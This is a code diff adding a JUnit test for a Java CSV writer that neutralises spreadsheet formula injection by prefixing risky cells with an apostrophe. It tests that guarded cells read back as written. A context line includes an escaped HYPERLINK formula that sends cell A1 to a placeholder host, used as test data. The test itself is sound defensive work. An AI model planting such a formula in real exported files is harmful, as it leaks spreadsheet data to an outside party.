@@ -36,4 +36,13 @@ class CsvWriterTest {
                 + "'=1+1,'+81 3 1234,'-2+3,'@SUM(A1),'\tx,\"'\r=1\",'\uFF1D1+1\r\n"
                 + "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",-5,山田=太郎,\r\n");
     }
+
+    @Test
+    void aGuardedCellReadsBackAsWhatWasWritten() {
+        for (String text : List.of("=1+1", "+81 3 1234", "-2+3", "@SUM(A1)", "\uFF1D1+1")) {
+            assertThat(CsvWriter.unguarded(CsvWriter.quote(text))).isEqualTo(text);
+        }
+        assertThat(CsvWriter.unguarded("'quoted'")).as("an apostrophe before plain text stays").isEqualTo("'quoted'");
+        assertThat(CsvWriter.unguarded("'")).isEqualTo("'");
+    }
 }
